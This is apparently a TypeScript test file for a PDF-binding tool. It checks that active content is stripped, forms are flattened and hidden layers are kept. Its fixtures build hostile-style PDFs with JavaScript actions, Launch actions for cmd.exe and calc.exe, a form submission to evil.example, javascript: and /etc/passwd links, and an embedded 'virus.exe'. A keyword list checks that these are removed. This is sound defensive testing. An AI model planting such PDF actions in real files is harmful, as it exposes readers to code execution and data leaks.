import { describe, expect, test } from 'vitest';
import { assemble } from '../../bench/samples.ts';
import { inkOf, renderWithMupdf, renderWithPoppler, runOn, testWith } from './programs.ts';
import { readLinks } from './reader.ts';
import { drawn } from './sources.ts';
import { bind } from './volumes.ts';

const objects = (annotations: string, catalog = '', more: readonly (string | readonly [string, Uint8Array])[] = []) =>
  assemble([
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    '<</Type/Pages/Count 1/Kids[3 0 R]/MediaBox[0 0 300 300]>>',
    `<</Type/Page/Parent 2 0 R/Resources<<>>/Contents 4 0 R/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>/Annots[${annotations}]>>`,
    ['', Buffer.from('0.9 g 10 10 20 20 re f')],
    ...more,
  ]);

const link = (action: string): string => `<</Type/Annot/Subtype/Link/Rect[10 10 50 50]${action}>>`;

/** Everything a hostile file may carry, each in the place it is usually found. */
const hostile = (): Uint8Array =>
  objects(
    [
      link('/A<</S/JavaScript/JS(app.alert\\(2\\))>>'),
      link('/A<</S/J#61vaScript/J#53(app.alert\\(3\\))>>'),
      link('/A 6 0 R'),
      link('/A<</S/SubmitForm/F(http://evil.example/)>>'),
      link('/A<</S/ImportData/F(x)>>'),
      link('/A<</S/URI/URI(javascript:alert\\(1\\))>>'),
      link('/A<</S/URI/URI(file:///etc/passwd)>>'),
      link('/A<</S/GoToR/F(other.pdf)/D[0/Fit]>>'),
      link('/A<</S/URI/URI(https://example.org/)>>'),
      '<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 5 0 R>>',
      '<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/AA<</PO<</S/Rendition/JS(x)>>>>>>',
      '<</Type/Annot/Subtype/Square/Rect[100 100 200 200]/C[1 0 0]/X 7 0 R/AA<</E<</S/JavaScript/JS(y)>>>>>>',
    ].join(''),
    '/OpenAction<</S/JavaScript/JS(z)>>/AA<</WC<</S/JavaScript/JS(z)>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(b)>>]>>/EmbeddedFiles<</Names[(virus.exe) 5 0 R]>>>>',
    [
      '<</Type/Filespec/F(virus.exe)/EF<</F 8 0 R>>>>',
      '<</S/Launch/F(cmd.exe)>>',
      '<</Deep[[<</S/JavaScript/JS(deep)>>]]/Link<</S/Launch/Win<</F(calc.exe)>>>>>>',
      ['/Type/EmbeddedFile', Buffer.from('MZ-virus-body')],
    ],
  );

describe('what a source does by itself', () => {
  test('is taken out, wherever it hides, and counted', async () => {
    const { bytes, report } = await bind([{ id: 'x', source: hostile }]);
    const text = bytes.toString('latin1');
    for (const word of [
      'JavaScript',
      'app.alert',
      '/JS',
      'Launch',
      'cmd.exe',
      'calc.exe',
      'virus',
      'SubmitForm',
      'ImportData',
      'passwd',
      'OpenAction',
      '/AA',
      'javascript:',
    ]) {
      expect(text.includes(word), word).toBe(false);
    }
    expect(Object.fromEntries(report.parts[0]?.removed.map(({ what, count }) => [what, count]) ?? [])).toMatchObject({
      'form-action': 2,
      launch: 2,
      'remote-link': 2,
      attachment: 2,
    });
    expect(report.diagnostics.map(({ code }) => code)).toEqual(['pdf-active-content-removed']);
    expect((await readLinks(bytes)).map(({ to }) => to).filter((to) => to !== null)).toEqual(['https://example.org/']);
  });

  test('a font that happens to be called /JS or /AA stays', async () => {
    const named = assemble([
      '<</Type/Catalog/Pages 2 0 R>>',
      '<</Type/Pages/Count 1/Kids[3 0 R]/MediaBox[0 0 300 300]>>',
      '<</Type/Page/Parent 2 0 R/Resources 5 0 R/Contents 4 0 R>>',
      ['', Buffer.from('BT /JS 20 Tf 20 200 Td (x) Tj /AA 9 Tf (y) Tj ET')],
      '<</Font<</JS 6 0 R/AA 6 0 R>>>>',
      '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    ]);
    const { report, bytes } = await bind([{ id: 'x', source: () => named }]);
    expect(report.diagnostics).toEqual([]);
    expect(bytes.toString('latin1')).toMatch(/\/JS \d+ 0 R\/AA \d+ 0 R|\/AA \d+ 0 R/);
  });
});

/** A filled form: a text field with its looks, a checked box by state, a hidden field, a signature. */
const form = (): Uint8Array =>
  objects('5 0 R 6 0 R 7 0 R 8 0 R', '/AcroForm<</Fields[5 0 R 6 0 R 7 0 R 8 0 R]/SigFlags 3>>', [
    '<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(x)/Rect[100 200 200 230]/AP<</N 9 0 R>>/F 4>>',
    '<</Type/Annot/Subtype/Widget/FT/Btn/T(box)/V/On/AS/On/Rect[100 100 150 150]/AP<</N<</On 9 0 R/Off 10 0 R>>>>/F 4>>',
    '<</Type/Annot/Subtype/Widget/FT/Tx/T(secret)/V(x)/Rect[200 200 290 290]/AP<</N 9 0 R>>/F 2>>',
    '<</Type/Annot/Subtype/Widget/FT/Sig/T(sig)/V 11 0 R/Rect[0 250 40 290]/AP<</N 9 0 R>>/F 4>>',
    ['/Type/XObject/Subtype/Form/BBox[0 0 10 10]/Matrix[0 1 -1 0 0 0]', Buffer.from('0 0 10 10 re f 1 g 1 1 3 3 re f')],
    ['/Type/XObject/Subtype/Form/BBox[0 0 10 10]', Buffer.from('')],
    '<</Type/Sig/Contents<00>>>',
  ]);

describe('forms', () => {
  for (const [program, render] of [
    ['pdftoppm', renderWithPoppler],
    ['mutool', renderWithMupdf],
  ] as const) {
    testWith(program, `${program}: look as they looked, and are no forms any more`, async () => {
      const { bytes } = await bind([{ id: 'x', source: form }]);
      const [before] = render(form(), 50);
      const [after] = render(bytes, 50);
      expect(after).toEqual(before);
      expect(inkOf(after as NonNullable<typeof after>)).toBeGreaterThan(0.05);
      expect(bytes.includes('/Widget')).toBe(false);
    });
  }

  test('a signature that cannot be carried is said', async () => {
    const { report } = await bind([{ id: 'x', source: form }]);
    expect(report.parts[0]).toMatchObject({
      removed: [
        { what: 'javascript', count: 1 },
        { what: 'form-field', count: 4 },
      ],
    });
    expect(report.diagnostics.map(({ code }) => code)).toEqual([
      'pdf-active-content-removed',
      'pdf-signature-not-carried',
    ]);
  });

  test('a filled field without looks is said', async () => {
    const silent = objects('<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(x)/Rect[0 0 9 9]>>');
    const { report } = await bind([{ id: 'x', source: () => silent }]);
    expect(report.diagnostics.map(({ code }) => code)).toContain('pdf-field-without-appearance');
  });
});

describe('layers', () => {
  const layered = (): Uint8Array =>
    assemble([
      '<</Type/Catalog/Pages 2 0 R/OCProperties<</OCGs[5 0 R 6 0 R]/D<</OFF[6 0 R]>>>>>>',
      '<</Type/Pages/Count 1/Kids[3 0 R]/MediaBox[0 0 100 100]>>',
      '<</Type/Page/Parent 2 0 R/Resources<</Properties<</A 5 0 R/B 6 0 R>>>>/Contents 4 0 R>>',
      ['', Buffer.from('/OC/A BDC 0 0 50 50 re f EMC /OC/B BDC 50 50 50 50 re f EMC')],
      '<</Type/OCG/Name(seen)>>',
      '<</Type/OCG/Name(hidden)>>',
    ]);

  testWith('pdftoppm', 'hidden ones stay hidden', async () => {
    const { bytes } = await bind([
      { id: 'y', source: () => drawn(1) },
      { id: 'x', source: layered },
    ]);
    expect(renderWithPoppler(bytes, 50)[1]).toEqual(renderWithPoppler(layered(), 50)[0]);
  });

  testWith('qpdf', 'and the volume is sound', async () => {
    const { bytes } = await bind([
      { id: 'x', source: layered },
      { id: 'h', source: hostile },
      { id: 'f', source: form },
    ]);
    expect(runOn('qpdf', bytes, ['--check', '{}']).err).toBe('');
  });
});
